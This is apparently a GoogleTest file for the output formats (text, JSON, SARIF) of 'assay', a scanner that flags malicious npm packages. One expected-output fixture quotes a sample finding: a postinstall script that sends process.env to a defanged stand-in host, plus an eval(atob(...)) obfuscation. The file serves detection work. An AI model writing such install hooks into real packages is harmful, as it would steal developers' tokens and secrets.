#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <nlohmann/json.hpp>

#include "report/report_for_test.h"
#include "report/writer.h"

namespace assay {
namespace {

using Json = nlohmann::json;
using testing::ElementsAre;
using testing::HasSubstr;
using testing::Not;

using Maker = std::unique_ptr<ReportWriter> (*)(Output, Tool);

std::string written(const Maker make, const std::vector<Report>& reports) {
  std::string text;
  const auto writer = make([&](std::string_view part) { text += part; }, tool_for_test);
  Tally tally;
  for (const Report& report : reports) {
    writer->add(report);
    tally.count(report);
  }
  writer->finish(tally);
  return text;
}

std::string written_as_text(const std::vector<Report>& reports, TextStyle style = {}) {
  std::string text;
  const auto writer = make_text_writer([&](std::string_view part) { text += part; }, style);
  Tally tally;
  for (const Report& report : reports) {
    writer->add(report);
    tally.count(report);
  }
  writer->finish(tally);
  return text;
}

Report failed() { return failed_report("x.tgz", {ErrorKind::malformed, "x.tgz: not an archive"}); }

TEST(Text, A_clean_package_is_one_line) {
  EXPECT_EQ(written_as_text({clean_report()}),
            "allow  clean@2.0.0 (npm)  nothing found in 3 files\n");
}

TEST(Text, A_finding_is_told_so_that_a_person_can_act) {
  EXPECT_EQ(written_as_text({Incident().report()}),
            R"(block  demo@1.0.0 (npm)  score 205: environment-is-sent, readme-is-missing
       demo-1.0.0.tgz, sha256 aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa, 2 files

  critical  The environment is sent to a server  [environment-is-sent]
    index.js:2:2  sends process.env to hxxps://collect[.]example[.]test/x
      2 | send('hxxps://collect[.]example[.]test/x', e);
        | ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^
      1. index.js:1:11  reads process.env
      2. index.js:3:1 (javascript after undoing base64, line 2)  sends it
      runs when the package is installed or built: postinstall

    index.js:3:1  sends it from decoded code
      3 | eval(atob('c2VuZCgp'));
        | ^^^^
      decoded to javascript after undoing base64, line 2
      2 | send()
        | ^^^^^^
      runs when the package is installed or built: postinstall

    Why it matters  Environment variables hold tokens.
    Harmless when   Only named, harmless variables are sent.

  low   the package: has no README [readme-is-missing]

)");
}

TEST(Text, What_is_only_good_to_know_stays_on_the_line_of_a_clean_package) {
  Report report = clean_report();
  report.findings.resize(2);
  for (ReportedFinding& finding : report.findings) finding.rule = &readme_rule;
  EXPECT_EQ(written_as_text({report}),
            "allow  clean@2.0.0 (npm)  nothing found in 3 files (readme-is-missing)\n");
}

TEST(Text, Colour_is_only_used_when_asked_for) {
  EXPECT_THAT(written_as_text({Incident().report()}), Not(HasSubstr("\033")));
  EXPECT_THAT(written_as_text({Incident().report()}, {.color = true}),
              HasSubstr("\033[1;31mblock"));
}

TEST(Text, Gaps_are_shown_and_a_package_with_gaps_is_not_clean) {
  Report report = clean_report();
  report.verdict.complete = false;
  report.gaps = {{GapKind::too_large, "big.js", "70 MB exceeds 32 MB"}};
  const std::string text = written_as_text({report});
  EXPECT_THAT(text, HasSubstr("incomplete"));
  EXPECT_THAT(text, HasSubstr("big.js: 70 MB exceeds 32 MB"));
}

TEST(Text, What_could_not_be_examined_is_an_error_line) {
  EXPECT_EQ(written_as_text({failed()}), "error  x.tgz  not examined: x.tgz: not an archive\n");
}

TEST(Text, Many_artifacts_end_with_a_summary) {
  const std::string text = written_as_text({clean_report(), Incident().report(), failed()});
  EXPECT_THAT(text, testing::EndsWith("3 artifacts, 1 block, 1 allow, 1 not examined\n"));
}

TEST(Text, Quiet_leaves_out_what_is_clean) {
  EXPECT_EQ(written_as_text({clean_report(), clean_report()}, {.quiet = true}), "");
  EXPECT_THAT(written_as_text({clean_report(), failed()}, {.quiet = true}),
              Not(HasSubstr("clean@2.0.0")));
}

TEST(Text, Long_paragraphs_are_wrapped_to_the_terminal) {
  EXPECT_THAT(written_as_text({Incident().report()}, {.width = 40}),
              HasSubstr("    Why it matters  Environment\n                    variables hold\n"));
}

TEST(Text, Of_many_like_places_a_few_are_shown_and_the_rest_counted) {
  Incident incident;
  incident.findings.assign(12, incident.findings[0]);
  EXPECT_THAT(written_as_text({incident.report()}), HasSubstr("and 7 more places like it"));
}

TEST(Text, An_excepted_finding_is_listed_with_its_reason) {
  Report report = Incident().report();
  report.findings[0].excepted = "read by us";
  EXPECT_THAT(written_as_text({report}),
              HasSubstr("excepted  environment-is-sent in index.js:2:2: read by us"));
}

TEST(JsonLines, Each_report_is_one_line_with_what_scripts_need) {
  const std::string text = written(make_json_lines_writer, {Incident().report(), clean_report()});
  const std::size_t end = text.find('\n');
  const Json json = Json::parse(text.substr(0, end));
  EXPECT_EQ(json["archive"], "demo-1.0.0.tgz");
  EXPECT_EQ(json["purl"], "pkg:npm/demo@1.0.0");
  EXPECT_EQ(json["verdict"], "block");
  EXPECT_EQ(json["complete"], true);
  EXPECT_EQ(json["score"], 205);
  EXPECT_EQ(json["ruleset"], "abc");
  EXPECT_EQ(json["assay_version"], "1.2.3");
  EXPECT_EQ(json["findings"][0]["rule"], "environment-is-sent");
  EXPECT_EQ(json["findings"][0]["line"], 2);
  EXPECT_EQ(json["findings"][0]["column"], 2);
  EXPECT_EQ(json["findings"][1]["layer"]["how"], "base64");
  EXPECT_EQ(json["findings"][2]["path"], "");
  EXPECT_EQ(Json::parse(text.substr(end))["verdict"], "allow");
}

TEST(JsonLines, What_could_not_be_examined_has_no_verdict) {
  const Json json = Json::parse(written(make_json_lines_writer, {failed()}));
  EXPECT_TRUE(json["verdict"].is_null());
  EXPECT_EQ(json["complete"], false);
  EXPECT_EQ(json["error"]["kind"], "malformed");
}

TEST(JsonLines, Names_that_are_not_utf8_never_throw) {
  Report report = clean_report();
  report.archive = "\xFF\xFE.tgz";
  EXPECT_EQ(Json::parse(written(make_json_lines_writer, {report}))["archive"], "\uFFFD\uFFFD.tgz");
}

TEST(JsonFormat, Is_one_document_for_any_number_of_reports) {
  EXPECT_EQ(Json::parse(written(make_json_writer, {}))["reports"], Json::array());
  const Json json = Json::parse(written(make_json_writer, {Incident().report(), clean_report()}));
  EXPECT_EQ(json["schema"], 1);
  EXPECT_EQ(json["reports"].size(), 2u);
  EXPECT_EQ(json["summary"]["block"], 1);
}

TEST(JsonFormat, The_same_reports_give_the_same_bytes) {
  EXPECT_EQ(written(make_json_writer, {Incident().report()}),
            written(make_json_writer, {Incident().report()}));
}

TEST(Sarif, Results_point_at_the_archive_and_relate_the_member_and_its_line) {
  const Json log = Json::parse(written(make_sarif_writer, {Incident().report()}));
  EXPECT_EQ(log["version"], "2.1.0");
  const Json& run = log["runs"][0];
  const Json& result = run["results"][0];
  EXPECT_EQ(result["ruleId"], "environment-is-sent");
  EXPECT_EQ(run["tool"]["driver"]["rules"][result["ruleIndex"].get<std::size_t>()]["id"],
            "environment-is-sent");
  EXPECT_EQ(result["level"], "error");
  EXPECT_EQ(result["locations"][0]["physicalLocation"]["artifactLocation"]["uri"],
            "demo-1.0.0.tgz");
  const Json& related = result["relatedLocations"][0]["physicalLocation"];
  EXPECT_EQ(related["artifactLocation"]["uri"], "index.js");
  EXPECT_EQ(related["region"]["startLine"], 2);
  const Json& member = run["artifacts"][related["artifactLocation"]["index"].get<std::size_t>()];
  EXPECT_EQ(member["parentIndex"], 0);
  EXPECT_TRUE(result["partialFingerprints"].is_object());
  EXPECT_EQ(result["codeFlows"][0]["threadFlows"][0]["locations"].size(), 2u);
}

TEST(Sarif, In_a_folder_results_point_at_the_file_itself) {
  Incident incident;
  incident.package.kind = ArtifactKind::directory;
  incident.package.source = "./my pkg";
  const Json log = Json::parse(written(make_sarif_writer, {incident.report()}));
  const Json& location = log["runs"][0]["results"][0]["locations"][0]["physicalLocation"];
  EXPECT_EQ(location["artifactLocation"]["uri"], "my%20pkg/index.js");
  EXPECT_EQ(location["region"]["startLine"], 2);
}

TEST(Sarif, Gaps_and_failures_are_notifications) {
  Report report = clean_report();
  report.gaps = {{GapKind::link, "a", "is a link"}};
  const Json log = Json::parse(written(make_sarif_writer, {report, failed()}));
  const Json& invocation = log["runs"][0]["invocations"][0];
  EXPECT_EQ(invocation["executionSuccessful"], false);
  EXPECT_EQ(invocation["toolExecutionNotifications"].size(), 2u);
  EXPECT_EQ(invocation["toolExecutionNotifications"][0]["message"]["text"], "a: is a link");
}

TEST(Sarif, Every_region_starts_at_line_one_or_later) {
  const std::string text = written(make_sarif_writer, {Incident().report()});
  EXPECT_THAT(text, Not(HasSubstr("\"startLine\": 0")));
}

TEST(Sarif, An_excepted_finding_is_suppressed_with_its_reason) {
  Report report = Incident().report();
  report.findings[0].excepted = "read by us";
  const Json log = Json::parse(written(make_sarif_writer, {report}));
  EXPECT_EQ(log["runs"][0]["results"][0]["suppressions"][0]["justification"], "read by us");
}

}  // namespace
}  // namespace assay
